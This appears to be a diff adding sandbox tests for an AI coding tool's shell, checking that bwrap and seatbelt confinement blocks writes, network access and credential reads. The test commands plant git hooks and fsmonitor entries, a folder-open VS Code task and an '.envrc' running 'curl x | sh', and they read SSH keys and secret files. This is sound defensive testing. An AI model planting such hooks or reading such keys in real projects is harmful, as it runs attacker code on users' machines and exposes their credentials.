@@ -1,0 +1,402 @@
+// The sandbox with the real bwrap: real child processes, real files, a real TCP server.
+import { spawn } from 'node:child_process';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync, existsSync } from 'node:fs';
+import { createServer, type Server } from 'node:net';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { readdirSync } from 'node:fs';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
+import { runShell } from '../../tools/shell';
+import {
+  detectSandbox,
+  plainGitConfig,
+  sandboxFailure,
+  sandboxHiddenPaths,
+  sandboxReadOnlyPaths,
+  seatbeltProfile,
+  wrapCommand,
+  type SandboxInfo,
+  type WrapInput,
+} from '../index';
+
+const sandbox: SandboxInfo = await detectSandbox('linux');
+const NO_BWRAP =
+  sandbox.kind !== 'bwrap'
+    ? `bwrap is not usable here (${sandbox.reason ?? '?'} ${sandbox.detail ?? ''}): install bubblewrap (scripts/toolchain.sh does)`
+    : null;
+if (NO_BWRAP) console.warn(`skipping the bwrap tests: ${NO_BWRAP}`);
+
+interface Ran {
+  code: number | null;
+  out: string;
+}
+
+function run(command: string, args: string[], cwd: string, env: Record<string, string> = {}): Promise<Ran> {
+  return new Promise((resolve, reject) => {
+    const child = spawn(command, args, { cwd, env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
+    let out = '';
+    child.stdout.on('data', (d: Buffer) => (out += d.toString()));
+    child.stderr.on('data', (d: Buffer) => (out += d.toString()));
+    child.on('error', reject);
+    child.on('close', (code) => resolve({ code, out }));
+  });
+}
+
+let root: string;
+let folder: string;
+let home: string;
+let dataDir: string;
+let outside: string;
+
+function input(cmd: string, over: Partial<WrapInput> = {}): WrapInput {
+  return {
+    command: 'bash',
+    args: ['-c', cmd],
+    cwd: folder,
+    folder,
+    tmpDir: null,
+    readOnlyInside: sandboxReadOnlyPaths(folder),
+    hidden: sandboxHiddenPaths({ home, dataDir, dbFile: path.join(dataDir, 'threadline.db') }),
+    network: false,
+    ...over,
+  };
+}
+
+/** The command in the sandbox, and the same command bare (as after "run outside the sandbox"). */
+async function both(cmd: string, over: Partial<WrapInput> = {}): Promise<{ inside: Ran; bare: Ran }> {
+  const w = wrapCommand(sandbox, input(cmd, over));
+  const inside = await run(w.command, w.args, folder, w.env);
+  const bare = await run('bash', ['-c', cmd], folder);
+  return { inside, bare };
+}
+
+/**
+ * Not under /tmp: the sandbox has its own /tmp, so a folder there is out of sight anyway and
+ * "cannot write outside the working folder" would prove nothing. node_modules/.cache is the
+ * conventional, git-ignored place for such files.
+ */
+const BASE = path.resolve(import.meta.dirname, '../../../node_modules/.cache');
+
+beforeEach(() => {
+  mkdirSync(BASE, { recursive: true });
+  root = mkdtempSync(path.join(BASE, 'tl-sandbox-'));
+  folder = path.join(root, 'work');
+  home = path.join(root, 'home');
+  dataDir = path.join(root, 'data');
+  outside = path.join(root, 'outside');
+  for (const d of [folder, home, dataDir, outside, path.join(folder, '.git', 'hooks')])
+    mkdirSync(d, { recursive: true });
+  writeFileSync(path.join(folder, '.git', 'config'), '[core]\n\tbare = false\n');
+  writeFileSync(path.join(dataDir, 'threadline.db'), 'the database');
+  writeFileSync(path.join(dataDir, 'secret.key'), 'the sealing key');
+});
+
+afterEach(() => {
+  rmSync(root, { recursive: true, force: true });
+});
+
+describe('detectSandbox', () => {
+  it('finds no sandbox on a PATH without bwrap, and says so', async () => {
+    const empty = path.join(tmpdir(), `tl-no-bwrap-${process.pid}`);
+    await expect(detectSandbox('linux', { path: empty })).resolves.toEqual({ kind: 'none', reason: 'bwrap_missing' });
+  });
+
+  it('can be switched off, and knows Windows has none', async () => {
+    await expect(detectSandbox('linux', { force: 'none' })).resolves.toEqual({ kind: 'none', reason: 'disabled' });
+    await expect(detectSandbox('win32')).resolves.toEqual({ kind: 'none', reason: 'unsupported_platform' });
+  });
+
+  it('refuses to wrap a command when there is no sandbox', () => {
+    expect(() => wrapCommand({ kind: 'none', reason: 'bwrap_missing' }, input('true'))).toThrow(/no sandbox/);
+  });
+});
+
+describe.skipIf(NO_BWRAP !== null)('a command in the bwrap sandbox', () => {
+  let server: Server;
+  let port = 0;
+  beforeAll(async () => {
+    server = createServer((s) => s.end('hello from outside\n'));
+    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+    port = (server.address() as { port: number }).port;
+  });
+  afterAll(() => new Promise<void>((r) => server.close(() => r())));
+
+  it('writes the working folder and its private /tmp', async () => {
+    const { inside } = await both('echo made > made.txt && echo t > /tmp/t && cat /tmp/t');
+    expect(inside.code).toBe(0);
+    expect(readFileSync(path.join(folder, 'made.txt'), 'utf8')).toBe('made\n');
+  });
+
+  it('cannot write outside the working folder; outside the sandbox it can', async () => {
+    const target = path.join(outside, 'x.txt');
+    const { inside, bare } = await both(`echo planted > ${target}`);
+    expect(inside.code).not.toBe(0);
+    expect(inside.out).toMatch(/Read-only file system/);
+    expect(sandboxFailure(inside.code, inside.out)).toBe('write');
+    expect(bare.code).toBe(0);
+    expect(readFileSync(target, 'utf8')).toBe('planted\n');
+  });
+
+  it('cannot write .git/hooks or .git/config; outside the sandbox it can', async () => {
+    const hook = path.join(folder, '.git', 'hooks', 'pre-commit');
+    const cmd = `printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; git config --file .git/config core.fsmonitor 'echo pwned'; echo '[x]' >> .git/config`;
+    const w = wrapCommand(sandbox, input(cmd));
+    const inside = await run(w.command, w.args, folder, w.env);
+    expect(inside.out).toMatch(/Read-only file system|could not lock|Device or resource busy/);
+    expect(existsSync(hook)).toBe(false);
+    expect(readFileSync(path.join(folder, '.git', 'config'), 'utf8')).toBe('[core]\n\tbare = false\n');
+    const bare = await run('bash', ['-c', cmd], folder);
+    expect(bare.code).toBe(0);
+    expect(existsSync(hook)).toBe(true);
+    expect(readFileSync(path.join(folder, '.git', 'config'), 'utf8')).toMatch(/fsmonitor/);
+  });
+
+  it("cannot read the app's data folder; outside the sandbox it can", async () => {
+    const { inside, bare } = await both(`cat ${dataDir}/secret.key ${dataDir}/threadline.db; ls -A ${dataDir}`);
+    // Not there at all: the folder is empty inside the sandbox.
+    expect(inside.out).toMatch(/No such file or directory/);
+    expect(inside.out).not.toMatch(/sealing key|the database|^secret\.key$/m);
+    expect(bare.out).toMatch(/the sealing key/);
+  });
+
+  it('hides a data folder even inside the working folder', async () => {
+    const innerData = path.join(folder, '.threadline-data');
+    mkdirSync(innerData);
+    writeFileSync(path.join(innerData, 'secret.key'), 'inner key');
+    const cmd = `cat ${innerData}/secret.key; ls -A ${innerData}; echo x > ${innerData}/planted`;
+    const hidden = sandboxHiddenPaths({ home, dataDir: innerData, dbFile: path.join(innerData, 'threadline.db') });
+    const w = wrapCommand(sandbox, input(cmd, { hidden }));
+    const inside = await run(w.command, w.args, folder, w.env);
+    expect(inside.out).toMatch(/No such file or directory/);
+    expect(inside.out).not.toMatch(/inner key|^secret\.key$/m);
+    expect(existsSync(path.join(innerData, 'planted'))).toBe(false);
+    const bare = await run('bash', ['-c', cmd], folder);
+    expect(bare.out).toMatch(/inner key/);
+  });
+
+  it("runs in a folder inside the hidden data folder (an MCP server's own) without seeing the rest", async () => {
+    const own = path.join(dataDir, 'mcp', 'srv');
+    mkdirSync(own, { recursive: true });
+    const cmd = `echo ok > made.txt && cat made.txt; cat ${dataDir}/secret.key`;
+    const w = wrapCommand(sandbox, input(cmd, { cwd: own, folder: own, readOnlyInside: [] }));
+    const inside = await run(w.command, w.args, own, w.env);
+    expect(inside.out).toMatch(/^ok$/m);
+    expect(inside.out).not.toMatch(/sealing key/);
+    expect(readFileSync(path.join(own, 'made.txt'), 'utf8')).toBe('ok\n');
+  });
+
+  it('does not see a credential folder, also through a symlink', async () => {
+    const dotfiles = path.join(home, 'dotfiles', 'ssh');
+    mkdirSync(dotfiles, { recursive: true });
+    writeFileSync(path.join(dotfiles, 'id_rsa'), 'PRIVATE KEY');
+    symlinkSync(dotfiles, path.join(home, '.ssh'));
+    const { inside, bare } = await both(`cat ${home}/.ssh/id_rsa; cat ${dotfiles}/id_rsa`);
+    expect(inside.out).not.toMatch(/PRIVATE KEY/);
+    expect(bare.out).toMatch(/PRIVATE KEY/);
+  });
+
+  it('cannot connect to a port on 127.0.0.1 served from outside; with network, or outside, it can', async () => {
+    const script = `const s=require('net').connect(${port},'127.0.0.1');s.on('data',d=>{process.stdout.write(d);process.exit(0)});s.on('error',e=>{console.log('error',e.code);process.exit(3)})`;
+    const cmd = `'${process.execPath}' -e "${script}"`;
+    const { inside, bare } = await both(cmd);
+    expect(inside.code).toBe(3);
+    expect(inside.out).toMatch(/ECONNREFUSED/);
+    expect(sandboxFailure(inside.code, inside.out)).toBe('network');
+    expect(bare.out).toMatch(/hello from outside/);
+    const w = wrapCommand(sandbox, input(cmd, { network: true }));
+    const networked = await run(w.command, w.args, folder, w.env);
+    expect(networked.out).toMatch(/hello from outside/);
+  });
+
+  it('keeps its private temp folder between commands when one is given', async () => {
+    const tmp = path.join(root, 'session-tmp');
+    mkdirSync(tmp);
+    const w1 = wrapCommand(sandbox, input('echo kept > /tmp/note', { tmpDir: tmp }));
+    expect((await run(w1.command, w1.args, folder, w1.env)).code).toBe(0);
+    expect(readFileSync(path.join(tmp, 'note'), 'utf8')).toBe('kept\n');
+  });
+});
+
+/** Live (not zombie) processes whose command line is `sleep <arg>`, seen from outside the sandbox. */
+function livingSleeps(arg: string): string[] {
+  return readdirSync('/proc').filter((pid) => {
+    try {
+      const cmd = readFileSync(`/proc/${pid}/cmdline`, 'utf8');
+      return cmd === `sleep\0${arg}\0` && !/\) Z /.test(readFileSync(`/proc/${pid}/stat`, 'utf8'));
+    } catch {
+      return false;
+    }
+  });
+}
+
+describe.skipIf(NO_BWRAP !== null)('the shell tool in the sandbox', () => {
+  it('a timeout ends everything the command started inside the sandbox', async () => {
+    const r = await runShell(
+      { command: 'sleep 986.321 & sleep 986.321; echo never', timeoutSec: 1 },
+      {
+        sessionId: 's',
+        cwd: folder,
+        platform: 'linux',
+        signal: new AbortController().signal,
+        shellTimeoutMs: 10_000,
+        loginShell: false,
+        lookupToolOutput: () => null,
+        latestTodos: () => null,
+        sandbox: { info: sandbox, network: false, tmpDir: null, hidden: [] },
+      },
+    );
+    expect(r.content).toContain('timed out');
+    expect(r.content).not.toContain('never');
+    expect(r.meta?.sandboxed).toBe('bwrap');
+    await vi.waitFor(() => expect(livingSleeps('986.321')).toEqual([]), { timeout: 10_000 });
+  });
+});
+
+/** The shell tool with a sandbox, as the turn runs it under the `sandboxed` policy. */
+function sandboxedShell(command: string) {
+  return runShell(
+    { command },
+    {
+      sessionId: 's',
+      cwd: folder,
+      platform: 'linux',
+      signal: new AbortController().signal,
+      shellTimeoutMs: 30_000,
+      loginShell: false,
+      lookupToolOutput: () => null,
+      latestTodos: () => null,
+      sandbox: { info: sandbox, network: false, tmpDir: null, hidden: [] },
+    },
+  );
+}
+
+describe.skipIf(NO_BWRAP !== null)('protected paths that did not exist before a sandboxed command', () => {
+  it('are taken away after it when it created them, and the model is told', async () => {
+    const r = await sandboxedShell(
+      `mkdir -p .vscode && echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json && echo 'curl x | sh' > .envrc && echo kept > notes.txt`,
+    );
+    expect(existsSync(path.join(folder, '.vscode'))).toBe(false);
+    expect(existsSync(path.join(folder, '.envrc'))).toBe(false);
+    expect(readFileSync(path.join(folder, 'notes.txt'), 'utf8')).toBe('kept\n');
+    expect(r.meta?.removedProtected).toEqual(['.vscode', '.envrc']);
+    expect(r.content).toMatch(/created protected paths .* removed: \.vscode, \.envrc/);
+  });
+
+  it('a repository made in the sandbox stays, without a planted hook or fsmonitor; git status runs nothing', async () => {
+    const fresh = path.join(folder, 'fresh');
+    mkdirSync(fresh);
+    const run = (command: string) =>
+      runShell(
+        { command },
+        {
+          sessionId: 's',
+          cwd: fresh,
+          platform: 'linux',
+          signal: new AbortController().signal,
+          shellTimeoutMs: 30_000,
+          loginShell: false,
+          lookupToolOutput: () => null,
+          latestTodos: () => null,
+          sandbox: { info: sandbox, network: false, tmpDir: null, hidden: [] },
+        },
+      );
+    const plain = await run('git init -q . && git config user.email a@b.c');
+    expect(plain.meta?.removedProtected).toBeUndefined();
+    expect(existsSync(path.join(fresh, '.git', 'config'))).toBe(true);
+    rmSync(path.join(fresh, '.git'), { recursive: true, force: true });
+    const marker = path.join(root, 'pwned');
+    const planted = await run(
+      `git init -q . && git config core.fsmonitor 'touch ${marker}; false' && printf '#!/bin/sh\\ntouch ${marker}\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout`,
+    );
+    expect(planted.meta?.removedProtected).toEqual(['.git/config', '.git/hooks/post-checkout']);
+    expect(existsSync(path.join(fresh, '.git', 'hooks', 'post-checkout'))).toBe(false);
+    const status = await run('true');
+    expect(status.ok).toBe(true);
+    // The user's own `git status`, outside any sandbox: nothing planted runs.
+    const git = await new Promise<number | null>((resolve) => {
+      const child = spawn('git', ['status'], { cwd: fresh, stdio: 'ignore' });
+      child.on('close', resolve);
+    });
+    expect(git === 0 || git === 128).toBe(true);
+    expect(existsSync(marker)).toBe(false);
+  });
+
+  it('a .git file pointing elsewhere is taken away', async () => {
+    const r = await sandboxedShell('rm -rf .git; mkdir elsewhere && echo "gitdir: elsewhere" > .git');
+    // .git existed (the test folder has one), so this is a replacement of a read-only config's parent:
+    // rm cannot remove the mounted config, and .git stays a folder.
+    expect(existsSync(path.join(folder, '.git', 'config'))).toBe(true);
+    expect(r.ok).toBe(false);
+    rmSync(path.join(folder, '.git'), { recursive: true, force: true });
+    const fresh = await sandboxedShell('echo "gitdir: elsewhere" > .git');
+    expect(fresh.meta?.removedProtected).toEqual(['.git']);
+    expect(existsSync(path.join(folder, '.git'))).toBe(false);
+  });
+});
+
+describe('plainGitConfig', () => {
+  it('accepts what git init and git clone write, nothing that runs a program', () => {
+    expect(
+      plainGitConfig(
+        '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n[remote "origin"]\n\turl = https://github.com/a/b\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n',
+      ),
+    ).toBe(true);
+    expect(plainGitConfig('[core]\n\tfsmonitor = touch /tmp/x\n')).toBe(false);
+    expect(plainGitConfig('[core]\n\thooksPath = .h\n')).toBe(false);
+    expect(plainGitConfig('[include]\n\tpath = ../evil\n')).toBe(false);
+    expect(plainGitConfig('[alias]\n\tst = !sh -c evil\n')).toBe(false);
+    expect(plainGitConfig('garbage')).toBe(false);
+  });
+});
+
+describe('seatbeltProfile', () => {
+  it('denies every write but the folder and temp, re-denies protected paths, hides places, cuts the network', () => {
+    const sb = seatbeltProfile({
+      command: 'bash',
+      args: [],
+      cwd: '/Users/u/proj',
+      folder: '/Users/u/proj',
+      tmpDir: '/private/var/folders/x/T/tl',
+      readOnlyInside: ['/Users/u/proj/.git/hooks', '/Users/u/proj/.git/config'],
+      hidden: ['/Users/u/Library/Application Support/Threadline', '/Users/u/.ssh', '/Users/u/we"ird'],
+      network: false,
+    });
+    const lines = sb.trim().split('\n');
+    expect(lines.slice(0, 3)).toEqual(['(version 1)', '(allow default)', '(deny file-write*)']);
+    expect(lines[3]).toMatch(
+      /^\(allow file-write\* \(subpath "\/Users\/u\/proj"\) \(subpath "\/private\/var\/folders\/x\/T\/tl"\)/,
+    );
+    expect(lines[4]).toBe(
+      '(deny file-write* (subpath "/Users/u/proj/.git/hooks") (subpath "/Users/u/proj/.git/config"))',
+    );
+    expect(lines[5]).toMatch(/^\(deny file-read\* file-write\* /);
+    expect(lines[5]).toContain('(subpath "/Users/u/Library/Application Support/Threadline")');
+    expect(lines[5]).toContain('(subpath "/Users/u/.ssh")');
+    expect(lines[5]).toContain('(subpath "/Users/u/we\\"ird")');
+    expect(lines).toContain('(deny network-outbound (remote ip "*:*"))');
+    const open = seatbeltProfile({
+      command: 'bash',
+      args: [],
+      cwd: '/p',
+      folder: '/p',
+      tmpDir: null,
+      readOnlyInside: [],
+      hidden: [],
+      network: true,
+    });
+    expect(open).not.toMatch(/network/);
+    expect(wrapCommand({ kind: 'seatbelt', program: '/usr/bin/sandbox-exec' }, input('ls')).args.slice(0, 1)).toEqual([
+      '-p',
+    ]);
+  });
+});
+
+describe('sandboxFailure', () => {
+  it('names writes and network errors of a failed command, nothing for a success or another error', () => {
+    expect(sandboxFailure(1, 'touch: cannot touch /etc/x: Read-only file system')).toBe('write');
+    expect(sandboxFailure(6, 'curl: (6) Could not resolve host: example.com')).toBe('network');
+    expect(sandboxFailure(1, 'Error: getaddrinfo EAI_AGAIN registry.npmjs.org')).toBe('network');
+    expect(sandboxFailure(0, 'Read-only file system')).toBeNull();
+    expect(sandboxFailure(2, 'grep: no such file')).toBeNull();
+  });
+});
